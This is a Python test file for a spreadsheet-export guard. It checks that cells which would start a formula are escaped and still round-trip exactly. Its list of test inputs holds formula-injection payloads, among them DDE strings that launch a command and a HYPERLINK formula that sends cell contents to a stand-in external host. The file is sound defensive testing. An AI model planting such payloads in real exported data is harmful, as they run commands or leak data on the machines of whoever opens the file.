"""No cell of a table is a formula, and every cell gives its text back."""

import csv
import io
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sayso.core.views import ClaimCells, View
from sayso.exchange.spreadsheet import MARK, as_csv, guarded, unguarded

# What begins a formula, what may stand before it, and what else a text is made of.
_PIECES = (*"=+-@＝＠﹦'\"” \t\r\n;,\0\u200ba1",)
_MEANT = st.lists(st.sampled_from(_PIECES), max_size=12).map("".join)
_ATTACKS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tnothing",
    "\rnothing",
    '"=1+1"',
    "'=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1+1",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"more")',
]


class Line(View, frozen=True, kw_only=True):
    """A row as the tests need it."""

    words: str | None
    number: int | float | None


@pytest.mark.parametrize("attack", _ATTACKS)
def test_what_a_spreadsheet_takes_for_a_formula_is_guarded(attack: str) -> None:
    assert guarded(attack).startswith("'")
    assert unguarded(guarded(attack)) == attack


@pytest.mark.parametrize("end", [";", "\t", "\n", "\r\n", '";"', ";; "])
def test_a_formula_behind_what_may_end_a_cell_is_guarded_too(end: str) -> None:
    cell = f"The mayor said{end}=1+1"
    assert "'=1+1" in guarded(cell).replace('"', "").replace(" ", "")
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize(
    "words",
    ["", "The mayor – so he says – denied it", "a=b; c - d", "5 - 3 = 2", "it's", '"No," he said', "1,5"],
)
def test_ordinary_words_stay_as_they_are(words: str) -> None:
    assert guarded(words) == words


@given(st.one_of(st.text(), _MEANT))
def test_every_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text


@given(_MEANT)
def test_no_cell_begins_with_a_formula_whatever_stands_before_it(text: str) -> None:
    cell = guarded(text)
    assert not cell.strip().startswith(("=", "+", "-", "@", "＝", "＠", "﹦"))
    assert not cell.startswith(("\t", "\r", "\n", "\0"))
    for line in cell.replace("\t", "\n").replace("\r", "\n").replace(";", "\n").split("\n"):
        assert not line.strip(' "').startswith(("=", "+", "-", "@"))


@given(st.lists(st.builds(Line, words=st.none() | st.text() | _MEANT, number=st.none() | st.integers())))
def test_a_table_is_read_back_as_it_was(lines: list[Line]) -> None:
    written = b"".join(as_csv(Line, lines)).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(written, newline="")))
    assert [unguarded(row["words"]) for row in rows] == [line.words or "" for line in lines]
    assert [row["number"] for row in rows] == [
        "" if line.number is None else str(line.number) for line in lines
    ]


def test_a_table_begins_with_a_mark_once_and_names_its_fields() -> None:
    pieces = list(as_csv(Line, [Line(words="a", number=-1.5)] * 1200))
    assert len(pieces) == 3
    written = b"".join(pieces).decode()
    assert written.startswith(f'{MARK}"words","number"\r\n"a",-1.5\r\n')
    assert written.count(MARK) == 1
    assert (
        b"".join(as_csv(ClaimCells, [])).decode("utf-8-sig").startswith('"claim","document","spans","words"')
    )


@pytest.mark.parametrize("piece", ["\n", "' ", ";\t", "=", "\u200b", "a;"])
def test_a_text_of_any_length_takes_linear_time(piece: str) -> None:
    began = time.perf_counter()
    guarded(piece * (2_000_000 // len(piece)))
    assert time.perf_counter() - began < 5
